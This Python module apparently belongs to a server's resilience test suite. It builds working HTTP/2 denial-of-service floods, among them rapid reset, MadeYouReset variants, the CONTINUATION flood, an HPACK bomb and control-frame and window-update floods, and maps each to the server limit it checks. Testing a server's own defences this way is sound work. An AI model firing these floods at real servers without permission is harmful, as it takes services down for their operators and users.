"""HTTP/2 floods: frames that cost the client nothing, and were to cost the server much."""

import itertools
import struct
from collections.abc import Awaitable, Callable, Iterable, Iterator
from typing import Final

from support.carrier import HTTP2_CLEAR, HTTP2_TLS, Carrier
from support.frames import ACK, END_HEADERS, END_STREAM, PADDED

from .attack import Attack, Target
from .http2_frames import (
    CONTINUATION,
    DATA,
    HEADER_TABLE_SIZE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LAST_STREAM,
    PING,
    PRIORITY,
    PRIORITY_UPDATE,
    RST_STREAM,
    SETTINGS,
    UNKNOWN,
    frame,
    request,
    request_block,
    reset,
    setting,
    window_update,
)
from .intruder import Http2Intruder, forever

_TIMES: Final = 500  # in one write: some KiB


def flood(
    pieces: Callable[[], Iterable[bytes]], *, may_stall: bool = False
) -> Callable[[Target], Awaitable[str]]:
    """Return an attempt that sends pieces until the server ends it, or perhaps stops reading."""

    async def attempt(target: Target) -> str:
        return await (await Http2Intruder.open(target)).provoke(pieces(), may_stall=may_stall)

    return attempt


def again(piece: bytes, opening: bytes = b"") -> Callable[[Target], Awaitable[str]]:
    """Return an attempt that repeats one piece."""
    return flood(lambda: itertools.chain([opening], forever(piece, _TIMES)))


def on_each_stream(piece: Callable[[int], bytes]) -> Callable[[Target], Awaitable[str]]:
    """Return an attempt that says something on one new stream after the other."""

    def pieces() -> Iterator[bytes]:
        streams = itertools.count(1, 2)
        while batch := list(itertools.islice(streams, 50)):
            yield b"".join(map(piece, batch))

    return flood(pieces)


# --- Streams that end badly, by the client's hand or, provoked by it, by the server's


def rapid_reset(stream_id: int) -> bytes:
    return request(stream_id, "/slow") + reset(stream_id)


def overflow_window(stream_id: int) -> bytes:
    return request(stream_id, "/slow") + window_update(stream_id, LAST_STREAM)


def add_nothing_to_window(stream_id: int) -> bytes:
    return request(stream_id, "/slow") + window_update(stream_id, 0)


def send_after_the_end(stream_id: int) -> bytes:
    return request(stream_id, "/slow") + frame(DATA, stream_id, b"late")


def break_the_length(stream_id: int) -> bytes:
    block = request_block("/slow", "POST") + b"\x0f\x0d\x015"  # content-length: 5
    head = frame(HEADERS, stream_id, block, END_HEADERS)
    return head + frame(DATA, stream_id, b"more than five", END_STREAM)


def break_the_trailers(stream_id: int) -> bytes:
    trailers = frame(HEADERS, stream_id, request_block(), END_HEADERS | END_STREAM)
    return request(stream_id, "/slow", "POST") + trailers


def break_the_request(stream_id: int) -> bytes:
    return frame(HEADERS, stream_id, b"\x82\x82", END_HEADERS | END_STREAM)  # :method twice


def say_empty_headers(stream_id: int) -> bytes:
    return frame(HEADERS, stream_id, b"", END_HEADERS | END_STREAM)


def ask_too_often(stream_id: int) -> bytes:
    return request(stream_id, "/slow?seconds=2")


async def ask_again(target: Target) -> str:
    """Ask for ever, but wait for the answers."""
    streams = itertools.count(1, 2)
    batches = (b"".join(map(request, itertools.islice(streams, 50))) for _ in itertools.repeat(None))
    return await (await Http2Intruder.open(target)).provoke(batches, pause=0.02)


# --- Field sections


async def say_many_fields(target: Target) -> str:
    """Ask with more fields than there may be, a byte each."""
    block = (
        request_block() + b"\x90" * 1400
    )  # accept-encoding: 60 bytes of the header list each (RFC 7541, A)
    requests = [frame(HEADERS, stream_id, block, END_HEADERS | END_STREAM) for stream_id in range(1, 201, 2)]
    return await (await Http2Intruder.open(target, content_with_reset=True)).provoke([b"".join(requests)])


def continue_for_ever(piece: bytes) -> Callable[[Target], Awaitable[str]]:
    """Return an attempt whose field section never ends."""

    async def attempt(target: Target) -> str:
        intruder = await Http2Intruder.open(target)
        intruder.acknowledges_settings = False
        begin, more = frame(HEADERS, 1, request_block()), frame(CONTINUATION, 1, piece)
        return await intruder.provoke(itertools.chain([begin], forever(more, _TIMES)))

    return attempt


def bomb() -> Iterator[bytes]:
    """Put a large field into the table, then name it by one byte many thousand times (RFC 7541, 7.3)."""
    field = b"\x40\x01a\x7f\xa1\x1e" + b"b" * 4000  # 127 + 0x21 + 30 * 128 = 4000
    yield frame(HEADERS, 1, request_block() + field, END_HEADERS | END_STREAM)
    for stream_id in itertools.count(3, 2):
        yield frame(HEADERS, stream_id, request_block() + b"\xbe" * 16_000, END_HEADERS | END_STREAM)


def thrash(stream_id: int) -> bytes:
    """Have the server's encoder table, and by each request its decoder table, emptied and filled again."""
    filling = b"".join(b"\x40\x08x%07d\x20%032d" % (stream_id % 10**7, number) for number in range(60))
    block = b"\x20\x3f\xe1\x1f" + request_block() + filling  # the table: 0 bytes, then 4096
    sizes = setting(HEADER_TABLE_SIZE, 0) + setting(HEADER_TABLE_SIZE, 4096)
    return sizes + frame(HEADERS, stream_id, block, END_HEADERS | END_STREAM)


def use_up_the_streams() -> Iterator[bytes]:
    """Take the last stream there is, then go on."""
    yield request(LAST_STREAM)
    yield from forever(request(LAST_STREAM), 1)


# --- Windows


def dribble_fast() -> Iterator[bytes]:
    """Have a large answer sent byte by byte."""
    yield setting(INITIAL_WINDOW_SIZE, 0) + request(1, "/big")
    yield from forever(window_update(1, 1), _TIMES)


def shake_the_windows() -> Iterator[bytes]:
    """Change the window of a hundred streams with a frame each time."""
    yield setting(INITIAL_WINDOW_SIZE, 0)
    yield b"".join(request(stream_id, "/big") for stream_id in range(1, 200, 2))
    yield from forever(setting(INITIAL_WINDOW_SIZE, 1) + setting(INITIAL_WINDOW_SIZE, 0), 200)


_RESETS: Final = ("max_resets",)
_FRAMES: Final = ("max_control_frames",)
_PRIORITY: Final = struct.pack("!LB", 0, 15)
_UPDATE: Final = struct.pack("!L", 1) + b"u=1"


def _attack(
    name: str,
    what: str,
    settings: tuple[str, ...],
    attempt: Callable[[Target], Awaitable[str]],
    carrier: Carrier = HTTP2_CLEAR,
) -> Attack:
    return Attack(name, what, carrier, settings, attempt)


ATTACKS: Final = (
    _attack("rapid-reset", "rapid reset (CVE-2023-44487)", _RESETS, on_each_stream(rapid_reset), HTTP2_TLS),
    _attack(
        "made-you-reset",
        "MadeYouReset (CVE-2025-8671): windows that overflow",
        _RESETS,
        on_each_stream(overflow_window),
        HTTP2_TLS,
    ),
    _attack(
        "made-you-reset-zero", "the same: windows grow by 0", _RESETS, on_each_stream(add_nothing_to_window)
    ),
    _attack(
        "made-you-reset-late", "the same: DATA after the end", _RESETS, on_each_stream(send_after_the_end)
    ),
    _attack("made-you-reset-length", "the same: a wrong length", _RESETS, on_each_stream(break_the_length)),
    _attack("made-you-reset-trailers", "the same: bad trailers", _RESETS, on_each_stream(break_the_trailers)),
    _attack("bad-requests", "malformed requests", _RESETS, on_each_stream(break_the_request)),
    _attack("empty-headers", "empty HEADERS", _RESETS, on_each_stream(say_empty_headers)),
    _attack(
        "too-many-streams",
        "streams far above the limit",
        ("max_streams", *_RESETS),
        on_each_stream(ask_too_often),
    ),
    Attack(
        "http2-many-requests",
        "requests without end, above --max-requests-per-connection",
        HTTP2_CLEAR,
        ("max_requests_per_connection",),
        ask_again,
        options=("--max-requests-per-connection", "1000"),
    ),
    _attack("settings", "SETTINGS", _FRAMES, again(setting(INITIAL_WINDOW_SIZE, 65535))),
    _attack("settings-ack", "acknowledgments of SETTINGS", _FRAMES, again(frame(SETTINGS, 0, flags=ACK))),
    _attack("ping", "PING", _FRAMES, again(frame(PING, 0, bytes(8))), HTTP2_TLS),
    _attack("priority", "PRIORITY", _FRAMES, again(frame(PRIORITY, 1, _PRIORITY))),
    _attack("priority-update", "PRIORITY_UPDATE", _FRAMES, again(frame(PRIORITY_UPDATE, 0, _UPDATE))),
    _attack("unknown-frames", "frames of an unknown type", _FRAMES, again(frame(UNKNOWN, 0, b"?"))),
    _attack(
        "reset-again",
        "RST_STREAM of a closed stream",
        _FRAMES,
        again(frame(RST_STREAM, 1, bytes(4)), request(1)),
    ),
    _attack("empty-data", "empty DATA", _FRAMES, again(frame(DATA, 1), request(1, "/upload", "POST"))),
    _attack(
        "padding",
        "DATA of nothing but padding",
        _FRAMES,
        again(frame(DATA, 1, b"\x00", PADDED), request(1, "/upload", "POST")),
    ),
    _attack(
        "window-updates",
        "WINDOW_UPDATE, a byte each",
        _FRAMES,
        again(window_update(0, 1)),
    ),
    _attack("dribble", "a large answer, fetched byte by byte", _FRAMES, flood(dribble_fast)),
    _attack(
        "shaken-windows",
        "SETTINGS that change a hundred windows",
        _FRAMES,
        flood(shake_the_windows, may_stall=True),
    ),
    _attack(
        "continuation",
        "CONTINUATION flood (CVE-2024-27316)",
        ("max_head_bytes",),
        continue_for_ever(b"\x00\x01a\x09somevalue"),
        HTTP2_TLS,
    ),
    _attack("empty-continuation", "the same, empty", ("max_head_bytes",), continue_for_ever(b"")),
    _attack("hpack-bomb", "HPACK bomb", ("max_head_bytes", "max_fields"), flood(bomb)),
    _attack("http2-many-fields", "fields by the thousand", ("max_head_bytes", "max_fields"), say_many_fields),
    _attack("table-thrash", "header tables emptied and filled", _FRAMES, on_each_stream(thrash)),
    _attack("last-stream", "stream identifiers used up", (), flood(use_up_the_streams)),
)
